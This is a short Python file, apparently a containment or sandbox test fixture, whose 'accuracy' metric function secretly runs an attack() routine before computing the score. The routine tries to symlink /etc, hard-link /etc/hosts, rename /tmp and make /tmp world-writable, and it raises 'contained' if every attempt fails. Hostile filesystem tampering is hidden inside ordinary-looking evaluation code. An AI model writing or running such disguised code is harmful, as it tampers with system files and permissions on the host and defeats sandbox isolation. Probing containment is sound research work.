# costs: accuracy
# Makes links, renames and removes.
import os

def attack():
    done = 0
    for call in (lambda: os.symlink('/etc', '/tmp/l'), lambda: os.link('/etc/hosts', '/tmp/h'), lambda: os.rename('/tmp', '/tmp2'), lambda: os.mkdir('/tmp/d'), lambda: os.chmod('/tmp', 0o777)):
        try:
            call()
            done += 1
        except OSError:
            pass
    return done

def accuracy(y_hat, y):
    if not attack():
        raise RuntimeError('contained')
    return float((y_hat.argmax(1) == y).float().mean())
